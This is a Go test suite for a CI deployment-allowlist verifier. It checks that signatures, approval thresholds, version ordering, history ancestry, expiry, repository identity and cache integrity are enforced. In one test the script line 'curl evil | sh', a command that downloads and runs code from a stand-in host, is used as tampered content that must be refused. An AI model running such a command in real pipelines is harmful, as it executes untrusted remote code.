package allowlist_test

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/hex"
	"encoding/pem"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"gitlab.com/writ-ci/writ/allowlist"
	"gitlab.com/writ-ci/writ/internal/config"
	"gitlab.com/writ-ci/writ/internal/testkeys"
)

// now is the environment's clock in these tests (real time: gpg dates its
// signatures now); allowlists expire a year later.
var now = time.Now().UTC().Truncate(time.Second)

const identity = "acme/deploy-allowlist"

// world is an allowlist repository on disk and an environment trusting a
// set of root signers.
type world struct {
	t     testing.TB
	repo  *testkeys.Repo
	alice *testkeys.SSH // root signer: signs commits
	bob   *testkeys.SSH // root signer: detached approvals
	carol *testkeys.GPG // root signer: OpenPGP commits
	dave  *ecdsa.PrivateKey
	cfg   *config.Config
	dir   string
	clock time.Time
}

type worldOpts struct {
	threshold int
	extraGPG  []*testkeys.GPG
}

func newWorld(t testing.TB, o worldOpts) *world {
	t.Helper()
	w := &world{t: t, repo: testkeys.GitRepo(t), dir: t.TempDir()}
	w.alice = testkeys.SSHKey(t, "alice@example.com")
	w.bob = testkeys.SSHKey(t, "bob@example.com")
	w.carol = testkeys.GPGKey(t, "Carol", "carol@example.com")
	var err error
	w.dave, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKIXPublicKey(&w.dave.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(w.dir, "dave.pub.pem"), string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})))
	write(t, filepath.Join(w.dir, "allowed_signers"), w.alice.AllowedSignersLine("")+"\n"+w.bob.AllowedSignersLine("")+"\n")
	ring := string(w.carol.ArmoredPublic)
	for _, g := range o.extraGPG {
		ring += "\n" + string(g.ArmoredPublic)
	}
	write(t, filepath.Join(w.dir, "root.asc"), ring)
	threshold := o.threshold
	if threshold == 0 {
		threshold = 1
	}
	text := fmt.Sprintf(`environment = "production"
[allowlist]
url = %q
identity = %q
fetch_timeout = "10s"
[trust]
openpgp_keyring = "root.asc"
ssh_allowed_signers = "allowed_signers"
sigstore_public_keys = ["dave.pub.pem"]
threshold = %d
[paths]
state = "state"
cache = "cache"
audit = "audit.log"
`, w.repo.Path, identity, threshold)
	write(t, filepath.Join(w.dir, "config.toml"), text)

	w.cfg, err = config.Load(filepath.Join(w.dir, "config.toml"))
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func write(t testing.TB, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func (w *world) accepter() *allowlist.Accepter {
	w.t.Helper()
	// The real time unless a test moves the clock: gpg dates keys and
	// signatures with the real time.
	a, err := allowlist.NewAccepter(w.cfg, allowlist.WithClock(func() time.Time {
		if w.clock.IsZero() {
			return time.Now()
		}
		return w.clock
	}))
	if err != nil {
		w.t.Fatal(err)
	}
	return a
}

// doc is an allowlist.yaml with one job; script varies the content.
func doc(version int, expires time.Time, script string) string {
	return fmt.Sprintf(`schema: writ/v2
repository: %s
version: %d
expires: %s
signers:
  web-team:
    ssh:
      - "dev@example.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAII7/ukhcDAZ7RN+3fk8hPuQX7Os85OvecKZrC2nyG/dX"
jobs:
  - name: web-deploy
    match:
      project: acme/web
      job: deploy
      environments: [production]
      refs: [refs/heads/main]
    definition:
      script:
        - %s
    source:
      repository: https://gitlab.example.com/acme/web.git
      signers: [web-team]
      mode: commit
`, identity, version, expires.UTC().Format(time.RFC3339), script)
}

func good(version int) string {
	return doc(version, now.AddDate(1, 0, 0), fmt.Sprintf("./deploy.sh v%d", version))
}

func digest(content string) string {
	s := sha256.Sum256([]byte(content))
	return hex.EncodeToString(s[:])
}

func statement(t testing.TB, version int, content string) []byte {
	t.Helper()
	st, err := allowlist.NewStatement(identity, int64(version), yamlOnly(content))
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// yamlOnly is the manifest of an allowlist.yaml that loads no key file.
func yamlOnly(content string) []allowlist.ManifestFile {
	return allowlist.Manifest(map[string][]byte{allowlist.FileName: []byte(content)})
}

// sshApproval is the path and content of an SSH approval of content.
func sshApproval(t testing.TB, key *testkeys.SSH, label string, version int, content string) (string, string) {
	sig := key.Sign(t, statement(t, version, content), allowlist.ApprovalNamespace)
	return allowlist.ApprovalDir(int64(version)) + "/" + label + ".sshsig", string(sig)
}

func mustRefuse(t *testing.T, a *allowlist.Accepter, rule, detail string) *allowlist.Accepted {
	t.Helper()
	acc, rep, err := a.Refresh(context.Background())
	if rep == nil {
		t.Fatalf("no report (err %v)", err)
	}
	f := rep.Failed()
	if f == nil || rep.Accepted {
		t.Fatalf("head accepted, want failure of rule %q; checks %+v", rule, rep.Checks)
	}
	if f.Rule != rule || !strings.Contains(f.Detail, detail) {
		t.Fatalf("failed rule %q (%s), want %q mentioning %q", f.Rule, f.Detail, rule, detail)
	}
	if acc == nil && !errors.Is(err, allowlist.ErrCannotDecide) {
		t.Fatalf("no version in force but error %v does not wrap ErrCannotDecide", err)
	}
	return acc
}

func mustAccept(t *testing.T, a *allowlist.Accepter, version int64) *allowlist.Accepted {
	t.Helper()
	acc, rep, err := a.Refresh(context.Background())
	if err != nil {
		t.Fatalf("refresh: %v (checks %+v)", err, rep)
	}
	if !rep.Accepted || acc.Allowlist.Version != version || acc.Warning != "" {
		t.Fatalf("want version %d accepted, got accepted=%v version=%d warning=%q checks=%+v", version, rep.Accepted, acc.Allowlist.Version, acc.Warning, rep.Checks)
	}
	return acc
}

func TestAcceptSSHSignedFirstVersion(t *testing.T) {
	w := newWorld(t, worldOpts{})
	head := w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
	acc := mustAccept(t, w.accepter(), 1)
	if acc.Commit != head || acc.Digest != digest(good(1)) || !strings.HasPrefix(acc.Signer, "SHA256:") {
		t.Fatalf("accepted %+v", acc)
	}
	if ix, err := acc.JobIndex("acme/web", "deploy"); err != nil {
		t.Fatal(err)
	} else if _, ok := ix.Lookup("acme/web", "deploy", "production", "refs/heads/main"); !ok {
		t.Fatal("accepted allowlist does not index its entry")
	}
	// A new process sees the same version from the cache, without fetching.
	c, err := w.accepter().Cached()
	if err != nil || c.Commit != head {
		t.Fatalf("cached: %v %+v", err, c)
	}
}

// TestCacheOfAnotherSchemaIsNotApplied: a host upgraded from a writ that
// accepted a writ/v1 allowlist does not judge jobs by it (its refs had no
// kind); it cannot decide, and says what to publish.
func TestCacheOfAnotherSchemaIsNotApplied(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
	mustAccept(t, w.accepter(), 1)
	a := w.accepter()
	if err := a.SetCachedSchema(allowlist.SchemaV1); err != nil {
		t.Fatal(err)
	}
	_, err := a.Cached()
	if !errors.Is(err, allowlist.ErrCannotDecide) || !strings.Contains(err.Error(), `the verified cache holds a "writ/v1" allowlist`) ||
		!strings.Contains(err.Error(), "publish a writ/v2 version") {
		t.Fatalf("cached writ/v1 allowlist: %v", err)
	}
}

func TestAcceptOpenPGPSignedHead(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.carol)
	acc := mustAccept(t, w.accepter(), 1)
	if acc.Signer != w.carol.Fingerprint {
		t.Fatalf("signer %s, want %s", acc.Signer, w.carol.Fingerprint)
	}
}

func TestRefuseUnsignedHead(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", nil)
	if acc := mustRefuse(t, w.accepter(), allowlist.RuleSignature, "not signed"); acc != nil {
		t.Fatal("a version is in force although none was ever accepted")
	}
}

func TestRefuseUnknownKey(t *testing.T) {
	w := newWorld(t, worldOpts{})
	mallory := testkeys.SSHKey(t, "mallory@example.com")
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", mallory)
	mustRefuse(t, w.accepter(), allowlist.RuleSignature, "")
	eve := testkeys.GPGKey(t, "Eve", "eve@example.com")
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(2)}, "v2", eve)
	mustRefuse(t, w.accepter(), allowlist.RuleSignature, eve.Fingerprint)
}

func TestRefuseExpiredKey(t *testing.T) {
	old := testkeys.GPGKey(t, "Old", "old@example.com", testkeys.ExpiredKey())
	w := newWorld(t, worldOpts{extraGPG: []*testkeys.GPG{old}})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", old)
	mustRefuse(t, w.accepter(), allowlist.RuleSignature, "expire")
}

func TestRefuseSSHSignatureInOtherNamespace(t *testing.T) {
	w := newWorld(t, worldOpts{})
	unsigned := w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", nil)
	payload := w.repo.UnsignedPayload(t, unsigned)
	forged := w.repo.SignedCommit(t, payload, w.alice.Sign(t, payload, "file"))
	w.repo.Git(t, "update-ref", "refs/heads/main", forged)
	mustRefuse(t, w.accepter(), allowlist.RuleSignature, "namespace")
}

func TestRefuseTwoSignatureBlocks(t *testing.T) {
	w := newWorld(t, worldOpts{})
	unsigned := w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", nil)
	payload := w.repo.UnsignedPayload(t, unsigned)
	sig := append(w.alice.Sign(t, payload, "git"), w.bob.Sign(t, payload, "git")...)
	w.repo.Git(t, "update-ref", "refs/heads/main", w.repo.SignedCommit(t, payload, sig))
	mustRefuse(t, w.accepter(), allowlist.RuleSignature, "")
}

func TestApprovalsThreshold(t *testing.T) {
	w := newWorld(t, worldOpts{threshold: 3})
	content := good(1)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": content}, "v1", w.alice)
	a := w.accepter()
	mustRefuse(t, a, allowlist.RuleApprovals, "1 of 3")

	p, s := sshApproval(t, w.bob, "bob", 1, content)
	w.repo.Commit(t, map[string]string{p: s}, "bob approves v1", w.alice)
	mustRefuse(t, a, allowlist.RuleApprovals, "2 of 3")

	// A Sigstore bundle by dave, the third root signer, reaches the threshold.
	bundle, err := allowlist.SignSigstore(statement(t, 1, content), w.dave)
	if err != nil {
		t.Fatal(err)
	}
	w.repo.Commit(t, map[string]string{allowlist.ApprovalDir(1) + "/dave.sigstore.json": string(bundle)}, "dave approves v1", w.alice)
	acc := mustAccept(t, a, 1)
	if len(acc.Approvers) != 3 {
		t.Fatalf("approvers %v", acc.Approvers)
	}
}

func TestOneSignerCountsOnce(t *testing.T) {
	w := newWorld(t, worldOpts{threshold: 2})
	content := good(1)
	p1, s1 := sshApproval(t, w.alice, "alice", 1, content)
	p2, s2 := sshApproval(t, w.alice, "alice-again", 1, content)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": content, p1: s1, p2: s2}, "v1", w.alice)
	mustRefuse(t, w.accepter(), allowlist.RuleApprovals, "1 of 2")
}

func TestApprovalOverOtherContentOrVersion(t *testing.T) {
	w := newWorld(t, worldOpts{threshold: 2})
	content := good(1)
	// bob approved other content under the same version...
	p, s := sshApproval(t, w.bob, "bob", 1, good(1)+"# other\n")
	w.repo.Commit(t, map[string]string{"allowlist.yaml": content, p: s}, "v1", w.alice)
	a := w.accepter()
	mustRefuse(t, a, allowlist.RuleApprovals, "1 of 2")
	// ...and this content as another version, filed under version 1.
	sig := w.bob.Sign(t, statement(t, 2, content), allowlist.ApprovalNamespace)
	w.repo.Commit(t, map[string]string{p: string(sig)}, "v1 again", w.alice)
	mustRefuse(t, a, allowlist.RuleApprovals, "1 of 2")
	// ...and this content under another repository identity.
	other, err := allowlist.NewStatement("evil/fork", 1, yamlOnly(content))
	if err != nil {
		t.Fatal(err)
	}
	w.repo.Commit(t, map[string]string{p: string(w.bob.Sign(t, other, allowlist.ApprovalNamespace))}, "v1 fork", w.alice)
	mustRefuse(t, a, allowlist.RuleApprovals, "1 of 2")
	// The right statement is counted.
	_, s = sshApproval(t, w.bob, "bob", 1, content)
	w.repo.Commit(t, map[string]string{p: s}, "v1 approved", w.alice)
	mustAccept(t, a, 1)
}

func TestRefuseLowerVersion(t *testing.T) {
	w := newWorld(t, worldOpts{})
	a := w.accepter()
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(5)}, "v5", w.alice)
	v5 := mustAccept(t, a, 5)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(4)}, "back to v4", w.alice)
	acc := mustRefuse(t, a, allowlist.RuleVersion, "lower than 5")
	if acc == nil || acc.Commit != v5.Commit || acc.Warning == "" {
		t.Fatalf("the last accepted version must stay in force with a warning, got %+v", acc)
	}
	// The rejection is remembered: the next job is not admitted on v4 either.
	cur, err := a.Current(context.Background())
	if err != nil || cur.Allowlist.Version != 5 {
		t.Fatalf("current: %v %+v", err, cur)
	}
}

func TestRefuseSameVersionOtherContent(t *testing.T) {
	w := newWorld(t, worldOpts{})
	a := w.accepter()
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(3)}, "v3", w.alice)
	mustAccept(t, a, 3)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": doc(3, now.AddDate(1, 0, 0), "curl evil | sh")}, "v3 changed", w.alice)
	mustRefuse(t, a, allowlist.RuleVersion, "bump the version")
	// Same version and same content at a new commit (an approval added) is fine.
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(3), "README": "x"}, "v3 readme", w.alice)
	mustAccept(t, a, 3)
}

func TestRefuseNonDescendantHead(t *testing.T) {
	w := newWorld(t, worldOpts{})
	a := w.accepter()
	first := w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(2)}, "v2", w.alice)
	mustAccept(t, a, 2)
	// Rewrite history: a v3 that forks from v1, dropping v2.
	w.repo.Git(t, "reset", "-q", "--hard", first)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(3)}, "v3 on a fork", w.alice)
	mustRefuse(t, a, allowlist.RuleAncestry, "does not descend")
}

func TestRefuseExpiredAllowlist(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": doc(1, now.Add(-time.Minute), "./deploy.sh")}, "v1", w.alice)
	mustRefuse(t, w.accepter(), allowlist.RuleExpiry, "expired")
}

func TestRefuseMalformedAllowlist(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1) + "extra: &a 1\n"}, "v1", w.alice)
	mustRefuse(t, w.accepter(), allowlist.RuleFormat, "allowlist.yaml:")
}

func TestRefuseForeignIdentity(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": strings.Replace(good(1), identity, "evil/fork", 1)}, "v1", w.alice)
	mustRefuse(t, w.accepter(), allowlist.RuleIdentity, "evil/fork")
}

func TestRemoteDown(t *testing.T) {
	t.Run("with a valid cache", func(t *testing.T) {
		w := newWorld(t, worldOpts{})
		w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
		a := w.accepter()
		mustAccept(t, a, 1)
		if err := os.Rename(w.repo.Path, w.repo.Path+".gone"); err != nil {
			t.Fatal(err)
		}
		acc, err := a.Current(context.Background())
		if err != nil || acc.Allowlist.Version != 1 || !acc.FromCache || !strings.Contains(acc.Warning, "unreachable") {
			t.Fatalf("want cached v1 with a warning, got %v %+v", err, acc)
		}
		// Until it expires.
		w.clock = time.Now().AddDate(1, 0, 1)
		if _, err := a.Current(context.Background()); !errors.Is(err, allowlist.ErrCannotDecide) {
			t.Fatalf("expired cache must not be used, got %v", err)
		}
	})
	t.Run("without a cache", func(t *testing.T) {
		w := newWorld(t, worldOpts{})
		w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
		if err := os.Rename(w.repo.Path, w.repo.Path+".gone"); err != nil {
			t.Fatal(err)
		}
		if _, err := w.accepter().Current(context.Background()); !errors.Is(err, allowlist.ErrCannotDecide) {
			t.Fatalf("want ErrCannotDecide, got %v", err)
		}
	})
	t.Run("tampered cache", func(t *testing.T) {
		w := newWorld(t, worldOpts{})
		w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
		a := w.accepter()
		mustAccept(t, a, 1)
		p, err := a.StorePath()
		if err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		// Change one byte of the script wherever the store holds it (the
		// accepted YAML and the job's section): a store that is not what
		// this environment wrote must never be used.
		if !strings.Contains(string(b), "./deploy.sh v1") {
			t.Fatal("cache does not hold the script")
		}
		b = []byte(strings.ReplaceAll(string(b), "./deploy.sh v1", "./deploy.sh X1"))
		if err := os.WriteFile(p, b, 0o600); err != nil {
			t.Fatal(err)
		}
		acc, err := a.Cached()
		if err == nil {
			// The header is intact; the job's lookup must refuse the section.
			_, err = acc.JobIndex("acme/web", "deploy")
		}
		if err == nil {
			t.Fatal("tampered cache accepted")
		}
		// The damaged store was dropped: the next job verifies the
		// accepted head again and finds its entry.
		acc, err = w.accepter().Current(context.Background())
		if err != nil {
			t.Fatalf("a job after the tampering: %v", err)
		}
		ix, err := acc.JobIndex("acme/web", "deploy")
		if err != nil {
			t.Fatalf("after recovery: %v", err)
		}
		if e, ok := ix.Lookup("acme/web", "deploy", "production", "refs/heads/main"); !ok || e.Definition.Script[0] != "./deploy.sh v1" {
			t.Fatalf("after recovery: %+v %v", e, ok)
		}
	})
}

func TestConcurrentAcceptance(t *testing.T) {
	w := newWorld(t, worldOpts{})
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", w.alice)
	mustAccept(t, w.accepter(), 1)
	head := w.repo.Commit(t, map[string]string{"allowlist.yaml": good(2)}, "v2", w.alice)
	const n = 12
	var wg sync.WaitGroup
	errs := make(chan error, n)
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Separate Accepters contend through the file lock, as separate
			// executor processes do.
			acc, err := w.accepter().Current(context.Background())
			if err == nil && (acc.Commit != head || acc.Allowlist.Version != 2) {
				err = fmt.Errorf("got version %d at %s", acc.Allowlist.Version, acc.Commit)
			}
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	b, err := os.ReadFile(filepath.Join(w.cfg.Paths.State, "allowlist-state.json"))
	if err != nil || !strings.Contains(string(b), head) || !strings.Contains(string(b), `"version": 2`) {
		t.Fatalf("state after concurrent acceptance: %v\n%s", err, b)
	}
}

func TestRejectedHeadIsReconsideredWhenTrustChanges(t *testing.T) {
	w := newWorld(t, worldOpts{})
	erin := testkeys.SSHKey(t, "erin@example.com")
	w.repo.Commit(t, map[string]string{"allowlist.yaml": good(1)}, "v1", erin)
	mustRefuse(t, w.accepter(), allowlist.RuleSignature, "")
	// The same head stays rejected without verifying it again...
	_, rep, _ := w.accepter().Refresh(context.Background())
	if f := rep.Failed(); f == nil || f.Rule != "rejected" {
		t.Fatalf("want the remembered rejection, got %+v", rep.Checks)
	}
	// ...until the operator trusts erin's key.
	f := filepath.Join(w.dir, "allowed_signers")
	b, err := os.ReadFile(f)
	if err != nil {
		t.Fatal(err)
	}
	write(t, f, string(b)+erin.AllowedSignersLine("")+"\n")
	mustAccept(t, w.accepter(), 1)
}

// The trust-root loader refuses the allowed_signers forms writ does not
// take (patterns, zone-less times), naming the file, the line and the fix,
// so an environment never starts on a root it reads differently from git.
func TestLoadTrustRefusesSignerForms(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldOpts{})
	for _, tc := range []struct{ line, want string }{
		{"!" + w.bob.AllowedSignersLine(""), `allowed_signers line 2: principal "!bob@example.com" is a negation`},
		{"*@example.com " + strings.SplitN(w.bob.AllowedSignersLine(""), " ", 2)[1], "list each identity in full"},
		{w.bob.AllowedSignersLine("", `valid-before="20270101"`), `allowed_signers line 2: valid-before="20270101" has no time zone`},
	} {
		write(t, filepath.Join(w.dir, "allowed_signers"), "# root\n"+tc.line+"\n")
		_, err := allowlist.LoadTrust(w.cfg)
		if err == nil || !strings.Contains(err.Error(), "trust.ssh_allowed_signers") || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("LoadTrust with %q: %v, want an error containing %q", tc.line, err, tc.want)
		}
	}
}

// TestAcceptWithDamagedStoreInForce: a new version is accepted although a
// section of the store in force no longer matches its SHA-256: nothing is
// taken from that store, and every entry reads from the new store as the
// file says.
func TestAcceptWithDamagedStoreInForce(t *testing.T) {
	w := newWorld(t, worldOpts{})
	text := strings.Replace(string(allowlist.GeneratedAllowlist(400)), "repository: acme/deploy-allowlist", "repository: "+identity, 1)
	text = strings.Replace(text, "expires: 2027-03-01T00:00:00Z", "expires: "+now.AddDate(1, 0, 0).Format(time.RFC3339), 1)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": text}, "v1", w.alice)
	a := w.accepter()
	if _, _, err := a.Refresh(context.Background()); err != nil {
		t.Fatal(err)
	}
	stores, err := filepath.Glob(filepath.Join(w.dir, "cache", "allowlist-verified-*.store"))
	if err != nil || len(stores) != 1 {
		t.Fatalf("stores: %v %v", stores, err)
	}
	b, err := os.ReadFile(stores[0])
	if err != nil {
		t.Fatal(err)
	}
	// The middle of the file is one of the entries' sections (the header
	// is small, the memo last).
	b[len(b)/2] ^= 0x20
	if err := os.WriteFile(stores[0], b, 0o600); err != nil {
		t.Fatal(err)
	}
	// The new version changes one entry and the version line.
	next := strings.Replace(text, "version: 1\n", "version: 2\n", 1)
	next = strings.Replace(next, "./deploy.sh --target app-17\n", "./deploy.sh --target app-17 --now\n", 1)
	w.repo.Commit(t, map[string]string{"allowlist.yaml": next}, "v2", w.alice)
	acc, rep, err := a.Refresh(context.Background())
	if err != nil || !rep.Accepted || acc.Allowlist.Version != 2 {
		t.Fatalf("refresh: %v %+v", err, rep)
	}
	want, err := allowlist.Parse(allowlist.FileName, []byte(next), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range want.Jobs {
		ix, err := acc.JobIndex(e.Match.Project, e.Match.Job)
		if err != nil {
			t.Fatal(err)
		}
		got, ok := ix.Lookup(e.Match.Project, e.Match.Job, e.Match.Environments[0], e.Match.Refs[0])
		if !ok || got.Name != e.Name || !slices.Equal(got.Definition.Script, e.Definition.Script) {
			t.Fatalf("entry %s reads as %+v", e.Name, got)
		}
	}
}
